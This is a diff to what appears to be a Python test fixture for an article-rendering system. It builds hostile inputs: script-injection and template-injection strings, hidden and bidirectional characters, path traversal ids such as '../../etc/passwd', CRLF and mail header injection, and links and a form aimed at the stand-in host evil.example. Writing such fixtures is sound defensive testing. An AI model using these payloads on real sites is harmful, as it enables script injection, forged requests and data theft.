@@ -24,12 +24,12 @@ ATTACKS = {
     "math": f'<math hostile><mtext><mglyph><style></math><img src=x onerror="{FLAG}">',
     "cdata": f"]]><hostile-element/><![CDATA[ --><!-- <script>{FLAG}</script>",
     "template": "{{7*7}} {% for x in y %} ${7*7} #{7*7} <%= 7*7 %> {{ request.app.state.house.secret }}",
-    "style": f"<style hostile>*{{display:none}}</style><link rel=stylesheet href=//evil.example/x><base href=//evil.example>{FLAG}",
-    "frame": f'<iframe hostile srcdoc="<script>parent.{FLAG}</script>"></iframe><object data="data:text/html,x"></object>',
-    "form": '</form><form hostile action="https://evil.example/"><input name=csrf></form><meta http-equiv=refresh content=0>',
+    "style": "<style hostile>*{display:none}</style><link rel=stylesheet href=//evil.example/x><base href=//e.example>",
+    "frame": f'<iframe hostile srcdoc="<script>parent.{FLAG}</script>"></iframe><object data="data:text/html,x">',
+    "form": '</form><form hostile action="//evil.example/"><input name=csrf></form><meta http-equiv=refresh content=0>',
     "bidi": "\u202e\u2066flesruoy tsurt\u202d\u2069 \u200f\u200e\u061c gnp.exe",
     "unseen": "Mara\u200b\u200c\u200d\u2060\ufeff\u00ad Veld\ue000\U000e0041\U000e0042",
-    "zalgo": "H" + "\u0335\u0300\u0301\u0315\u031b\u0489" * 40 + "alm",
+    "zalgo": "".join(letter + "\u0335\u0300\u0301\u0315\u031b\u0489" * 3 for letter in "Halm"),
     "emoji": "👩‍👩‍👧‍👦🏴‍☠️ 🇻🇪 ﷽ 𒐫 ꧅",
     "controls": "a\x01b\x0bc\x0cd\x1be\x7ff\x80g\x9bh\x85i\u2028j\u2029k\ufffe\uffffl\x00m",
     "mail": "x\r\nBcc: all@evil.example\r\n\r\nhello",
@@ -49,7 +49,7 @@ URLS = (
     "https://outlet.example/%00%0d%0aSet-Cookie:%20hostile=1",
 )  # fmt: skip
 #: Ids that would leave their place in an address or an attribute.
-IDS = ("a/b", "../../etc/passwd", 'q"uo\'te', "per%25cent%2F", "what?x=1#y", "<i hostile>", "ü 😀 n", "versions", "a/versions")
+IDS = ("a/b", "../../etc/passwd", 'q"uo\'te', "per%25cent%2F", "what?x=1#y", "<i hostile>", "ü 😀 n", "versions")
 #: A word and a line that no page is wide enough for.
 LONG_WORD = "donau" * 1_000
 LONG_LINE = "ferry " * 10_000
@@ -80,12 +80,14 @@ def articles() -> list[dict[str, Any]]:
             }
         )
     quotes = "\n\n".join(
-        f"“The water came over wall {n} of the dam {ATTACKS['double']},” said Mara Veld{n}, an engineer." for n in range(120)
+        f"“The water came over wall {n} of the dam {ATTACKS['double']},” said Mara Veld{n}, an engineer."
+        for n in range(120)
     )
     for name, body in (("word", f"{LONG_WORD}\n\n{LONG_WORD}"), ("line", LONG_LINE), ("quotes", quotes)):
         text = f"{_EVENT.format(n=5)} {body}\n\n“{LONG_WORD[:400]},” said Mara Veld.\n\n{_REST}"
         title = f"Dam at Karvel breaks {LONG_WORD[:300]}"
-        made.append({"id": f"hostile-{name}", "publisher": LONG_WORD[:200], "published": "2026-03-22", "title": title, "text": text})
+        given = {"publisher": LONG_WORD[:200], "published": "2026-03-22", "title": title, "text": text}
+        made.append({"id": f"hostile-{name}", **given})
     return made
 
 
@@ -96,7 +98,8 @@ def page_of_an_outlet(attack: str) -> str:
     escaped = json.dumps(data).replace("<", "\\u003c")
     return f"""<!DOCTYPE html><html lang="{said}"><head><title>{said} dam breaks</title>
 <meta name="author" content="{said}"><meta property="og:site_name" content="{said} News">
-<meta property="og:title" content="{said} dam breaks"><meta property="article:published_time" content="2026-03-22T09:00:00Z">
+<meta property="og:title" content="{said} dam breaks">
+<meta property="article:published_time" content="2026-03-22T09:00:00Z">
 <link rel="canonical" href="javascript:{FLAG}"><script type="application/ld+json">{escaped}</script></head>
 <body><article><h1>{said} dam breaks</h1><p class="byline">By {said}</p><p>{_EVENT.format(n=6)}</p>
 <p onclick="{FLAG}">“{said} is what I heard,” said Mara Veld {said}.</p><script>{FLAG}</script>
